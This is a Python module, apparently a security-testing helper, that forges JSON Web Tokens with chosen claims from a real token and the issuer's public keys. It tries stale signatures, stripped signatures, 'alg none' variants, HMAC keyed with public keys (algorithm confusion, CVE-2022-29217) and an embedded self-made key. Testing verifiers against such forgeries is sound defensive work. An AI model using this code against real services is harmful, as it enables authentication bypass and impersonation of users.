"""Tokens that nobody issued, made from one that somebody did. Pure, but for a throw-away key."""

import base64
import hashlib
import hmac
import json
from collections.abc import Iterator, Mapping
from typing import Any

from cryptography.hazmat.primitives import serialization
from cryptography.hazmat.primitives.asymmetric.ed25519 import Ed25519PrivateKey, Ed25519PublicKey


def forged(token: str, jwks: Mapping[str, Any], *, claims: Mapping[str, Any]) -> Iterator[tuple[str, str]]:
    """Tokens that say `claims` without the issuer's signature, and what is wrong with each.

    Args:
        token: a real one, for its form.
        jwks: the issuer's public keys.
        claims: whom the tokens are to be for.
    """
    head, body, signature = token.split(".")
    header = json.loads(_unpacked(head))
    changed = _part(json.loads(_unpacked(body)) | dict(claims))
    yield "the claims changed under an old signature", f"{head}.{changed}.{signature}"
    yield "no signature", f"{head}.{changed}."
    for alg in ("none", "None", "NONE", "nOnE"):
        yield f"alg {alg}", f"{_part({**header, 'alg': alg})}.{changed}."
    for secret in _public_secrets(jwks):
        text = f"{_part({**header, 'alg': 'HS256'})}.{changed}"
        mac = hmac.new(secret, text.encode(), hashlib.sha256).digest()
        yield "the public key taken for a shared secret", f"{text}.{_packed(mac)}"
    yield "a key of our own", _own_key(header, changed)


def is_jwt(token: str) -> bool:
    """Whether the token is one whose parts can be read."""
    try:
        head, body, _ = token.split(".")
        json.loads(_unpacked(head))
        json.loads(_unpacked(body))
    except ValueError:
        return False
    return True


def _own_key(header: Mapping[str, Any], body: str) -> str:
    key = Ed25519PrivateKey.generate()
    own = {"kty": "OKP", "crv": "Ed25519", "x": _packed(key.public_key().public_bytes_raw())}
    text = f"{_part({**header, 'alg': 'EdDSA', 'jwk': own})}.{body}"
    return f"{text}.{_packed(key.sign(text.encode()))}"


def _public_secrets(jwks: Mapping[str, Any]) -> Iterator[bytes]:
    """What a careless library might take for a shared secret (CVE-2022-29217); empty is one too."""
    yield b""
    for key in jwks.get("keys", ()):
        x = str(key.get("x", ""))
        yield x.encode()
        if key.get("crv") == "Ed25519":
            raw = _unpacked(x)
            yield raw
            yield Ed25519PublicKey.from_public_bytes(raw).public_bytes(
                serialization.Encoding.PEM, serialization.PublicFormat.SubjectPublicKeyInfo
            )


def _part(value: Any) -> str:
    return _packed(json.dumps(value).encode())


def _packed(data: bytes) -> str:
    return base64.urlsafe_b64encode(data).rstrip(b"=").decode()


def _unpacked(text: str) -> bytes:
    return base64.urlsafe_b64decode(text + "=" * (-len(text) % 4))
